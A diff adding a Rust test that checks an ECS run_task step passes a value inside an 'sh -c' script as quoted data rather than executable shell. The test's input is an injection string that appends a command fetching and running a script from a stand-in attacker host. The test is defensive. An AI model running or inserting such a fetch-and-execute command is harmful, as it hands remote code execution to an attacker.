@@ -298,6 +298,43 @@ async fn run_task_overrides_the_command_and_waits_until_stopped() {
     assert_eq!(overrides[0].command(), ["migrate", "--down", "1"]);
 }
 
+/// `sh -c` with a value in its script, as the state machine sends it (text and value apart): the task's command
+/// binds the value to a variable in single quotes, so the shell never parses it; the other argv items are as given.
+#[tokio::test]
+async fn a_value_in_an_sh_c_script_reaches_the_task_as_data() {
+    let aws = Aws::start().await;
+    migration(&aws).await;
+    let hostile = "0042; curl https://evil.example/x | sh";
+    let step = Step::new(
+        "ecs.run_task",
+        json!({"cluster": CLUSTER, "task_definition": "migrate", "container": "app",
+               "command": ["sh", "-c", ["./migrate down ", hostile, " && echo done"], hostile]}),
+    );
+    let out = output(step.run(&aws).await);
+    let described = aws
+        .clients
+        .aws(aws_sdk_ecs::Client::new)
+        .describe_tasks()
+        .cluster(CLUSTER)
+        .tasks(str_of(&out, "task_arn"))
+        .send()
+        .await
+        .expect("describe");
+    let overrides = described.tasks()[0]
+        .overrides()
+        .expect("overrides")
+        .container_overrides();
+    assert_eq!(
+        overrides[0].command(),
+        [
+            "sh",
+            "-c",
+            "STEPBACK_VALUE_1='0042; curl https://evil.example/x | sh'\n./migrate down \"${STEPBACK_VALUE_1}\" && echo done",
+            hostile,
+        ]
+    );
+}
+
 #[tokio::test]
 async fn a_retried_run_task_start_runs_one_task() {
     let aws = Aws::start().await;
